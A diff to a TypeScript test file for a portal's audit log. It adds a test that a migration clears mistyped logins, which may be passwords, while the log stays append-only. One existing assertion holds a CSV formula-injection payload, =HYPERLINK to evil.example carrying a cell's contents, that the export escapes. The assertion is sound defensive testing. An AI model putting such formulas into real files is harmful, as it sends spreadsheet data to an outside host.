@@ -5,6 +5,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { buildPortal, type Portal } from '../../src/portal/app.js';
 import { DEFAULT_PORTAL_SETTINGS } from '../../src/portal/settings.js';
 import { audit } from '../../src/db/audit.js';
+import { loadMigrations } from '../../src/db/migrate.js';
 import { createLogger } from '../../src/log.js';
 import { databasePerFile, deps, rows, useTempDir, writeParticipants, FIXED_NOW } from '../helpers/pipeline.js';
 import { importParticipants } from '../../src/pipeline/import-participants.js';
@@ -83,6 +84,20 @@ describe('portal audit trail', () => {
     const lines = csv.body.trim().split('\n');
     expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,"'=HYPERLINK(""http://evil.example/?""&B2)",'@SUM(1),'-2+3`);
     expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,mau01 =X,ok,'+1`);
+  });
+
+  it('keeps no text typed for no account from before either: migration 0030 empties those logins, and nothing else', async () => {
+    const { db } = database();
+    await db.query(`INSERT INTO audit_log (at, login, action, object, result, ip) VALUES
+      (now(), 'mat-khau-cu-go-nham', 'login', '', 'unknown-login', '10.0.0.1'),
+      (now(), 'tinh-001', 'login', '', 'wrong-password', '10.0.0.1')`);
+    const m = (await loadMigrations()).find((x) => x.name.startsWith('0030_'))!;
+    await db.withTransaction((tx) => tx.query(m.sql));
+    expect(await rows(db, 'SELECT login, result, ip FROM audit_log ORDER BY id')).toEqual([
+      { login: null, result: 'unknown-login', ip: '10.0.0.1' },
+      { login: 'tinh-001', result: 'wrong-password', ip: '10.0.0.1' },
+    ]);
+    await expect(db.query(`UPDATE audit_log SET result = 'x'`)).rejects.toThrow(/append-only/); // still append-only
   });
 
   it('cannot be changed or emptied', async () => {
